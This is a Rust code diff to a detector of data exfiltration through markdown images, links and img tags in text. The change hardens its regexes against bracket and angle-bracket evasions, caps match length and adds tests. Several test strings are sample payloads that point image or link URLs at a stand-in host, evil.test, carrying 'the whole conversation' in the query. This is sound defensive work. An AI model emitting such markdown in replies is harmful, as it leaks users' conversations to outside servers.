@@ -12,13 +12,24 @@ use super::marked::{Marked, Rule};
 
 static RULES: LazyLock<Option<Marked>> = LazyLock::new(|| {
     let rule = |word, expression| Rule::new([word], expression, Edges::None);
-    Marked::new(vec![
-        rule("![", r"!\[[^\]\n]*\]\(\s*<?((?:https?:)?//[^\s)>]+)[^)\n]*\)"),
-        rule("<img", r#"<img\s[^>]*?src\s*=\s*["']?((?:https?:)?//[^\s"'>]+)[^>]*>"#),
-        rule("[", r"\[[^\]\n]+\]:\s*<?((?:https?:)?//[^\s>]+)>?"),
-        rule("](", r"\]\(\s*<?((?:https?:)?//[^\s)>]+)[^)\n]*\)"),
-    ])
+    // None goes on behind what may begin another, but for a little of its address.
+    let rules = vec![
+        rule(
+            "![",
+            r"!\[(?:\\.|[^\]\[\\\n]|\[(?:\\.|[^\]\[\\\n])*\])*\]\(\s*<?((?:https?:)?//[^\s)>\]]+(?:\][^\s)>]{0,64})?)[^)\n\]]*[)\]]",
+        ),
+        rule(
+            "<img",
+            r#"<img\s(?:[^<>]|<[^i<>])*?src\s*=\s*["']?((?:https?:)?//[^\s"'<>]+(?:<[^\s"'>]{0,64})?)[^<>]*[<>]"#,
+        ),
+        rule("[", r"\[[^\]\[\n]+\]:\s*<?((?:https?:)?//[^\s>\[]+(?:\[[^\s>]{0,64})?)>?"),
+        rule("](", r"\]\(\s*<?((?:https?:)?//[^\s)>\]]+(?:\][^\s)>]{0,64})?)[^)\n\]]*[)\]]"),
+    ];
+    Marked::new(rules, LONGEST)
 });
+
+/// A link or a picture with its address has no more bytes: few servers take a longer one.
+const LONGEST: usize = 8 << 10;
 
 /// The rule of links, which are clicked on.
 const LINK: u16 = 3;
@@ -35,11 +46,10 @@ const NAME: usize = 40;
 /// Finds such places from `from` on and returns how far all is decided.
 pub(super) fn pass(text: &[u8], from: usize, ended: bool, found: &mut Vec<Finding>) -> usize {
     let Some(rules) = &*RULES else { return text.len() };
-    rules.pass(text, from, ended, |rule, (start, end), (url, behind)| {
+    rules.pass(text, from, ended, found, |rule, (start, end), (url, behind)| {
         let address = text.get(url..behind).unwrap_or_default();
-        if carries(address, if rule == LINK { CLICKED } else { PICTURE }) {
-            found.push(Finding { rule, ..Finding::of(Detector::Exfiltration, start, end) });
-        }
+        let is = carries(address, if rule == LINK { CLICKED } else { PICTURE });
+        is.then(|| Finding { rule, ..Finding::of(Detector::Exfiltration, start, end) })
     })
 }
 
@@ -64,6 +74,7 @@ pub(super) fn host(found: &[u8]) -> Option<&str> {
 
 #[cfg(test)]
 mod tests {
+    use super::super::pattern::STEPS;
     use super::*;
 
     fn found(text: &str) -> Vec<&str> {
@@ -86,6 +97,27 @@ mod tests {
             found("![logo](https://example.com/logo.png?v=2) [docs](https://example.com/a?b=c)").is_empty()
         );
         assert!(found("![local](images/a.png) a[0](1) x ![").is_empty());
+        let hidden = [
+            r"![a [b] \[c](https://evil.test/?q=the+whole+conversation)",
+            "![a](https://evil.test/?q=[the]+whole+conversation]",
+            "[a]: //evil.test/?q=[the+whole+conversation",
+            "<img alt='<' src=//evil.test/?q=<the+whole+conversation>",
+        ];
+        for text in hidden {
+            assert_eq!(found(text).len(), 1, "{text}");
+        }
+    }
+
+    #[test]
+    fn a_text_full_of_beginnings_is_read_a_few_times_at_most() {
+        for part in ["[", "![", "](//a", "![a](//b", "<img src=//a", "[a]://b", "![a]( //"] {
+            let text = part.repeat(200_000 / part.len());
+            for ended in [true, false] {
+                let before = STEPS.get();
+                pass(text.as_bytes(), 0, ended, &mut Vec::new());
+                assert!(STEPS.get() - before < 60 * text.len(), "{part} {}", STEPS.get() - before);
+            }
+        }
     }
 
     #[test]
